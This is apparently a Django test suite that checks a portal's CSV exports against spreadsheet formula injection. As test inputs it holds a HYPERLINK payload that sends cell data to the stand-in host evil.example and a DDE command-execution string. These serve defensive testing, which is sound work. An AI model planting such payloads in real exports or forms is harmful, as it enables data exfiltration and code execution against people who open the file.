"""Finding 2: no cell of any CSV the portal writes can run as a spreadsheet formula."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from accounts.models import AccessRequest
from handbook.audit import audit_record
from handbook.csvexport import FORMULA_STARTS, csv_cell
from handbook.models import AuditAction, AuditEntry
from tests.factories import CountryFactory

pytestmark = pytest.mark.django_db
EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def _cells(response) -> list[str]:
    rows = csv.reader(io.StringIO(b"".join(response.streaming_content).decode()))
    return [cell for row in rows for cell in row]


def test_names_typed_into_the_public_form_are_neutralised_in_every_column(secretariat_client):
    CountryFactory(code="ES")
    Client().post(
        reverse("accounts:request_access"),
        {
            "full_name": EVIL_NAME,
            "organisation": "+cmd|' /C calc'!A0",
            "state": "ES",
            "function": "-2+3",
            "email": "evil@example.org",
            "role": "official",
            "reason": "@SUM(1+1)",
        },
    )
    access_request = AccessRequest.objects.get()
    access_request.status = "pending"
    access_request.save()
    secretariat_client.post(
        reverse("accounts:request_decide", args=[access_request.pk]),
        {"decision": "approve", "role": "official", "access_expires": "2099-01-01"},
    )
    Client().post(reverse("accounts:login"), {"username": "=1+1", "password": "x" * 12})
    response = secretariat_client.get(reverse("audit_csv"))
    cells = _cells(response)
    assert any("HYPERLINK" in cell for cell in cells)
    dangerous = [cell for cell in cells if cell[:1] in FORMULA_STARTS]
    assert dangerous == []


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\t=1", "'\t=1"),
        ("-5", "'-5"),
        ("@x", "'@x"),
        ("＝1", "'＝1"),
        ("plain", "plain"),
        (None, ""),
        (3, "3"),
    ],
)
def test_every_cell_shape_is_neutralised(value, expected):
    assert csv_cell(value) == expected


def test_the_audit_csv_is_streamed_from_a_snapshot_and_audited_once(secretariat_client):
    for n in range(3):
        audit_record(action=AuditAction.LOGIN_SUCCESS, detail=f"entry {n}")
    before = AuditEntry.objects.count()
    response = secretariat_client.get(reverse("audit_csv"))
    assert response.streaming
    rows = _cells(response)
    assert sum(cell.startswith("entry ") for cell in rows) == 3
    assert "export.data" not in rows  # the export's own entry is not in its snapshot
    exported = AuditEntry.objects.get(action=AuditAction.DATA_EXPORTED)
    assert exported.detail.startswith(f"audit log CSV, {before} entries")
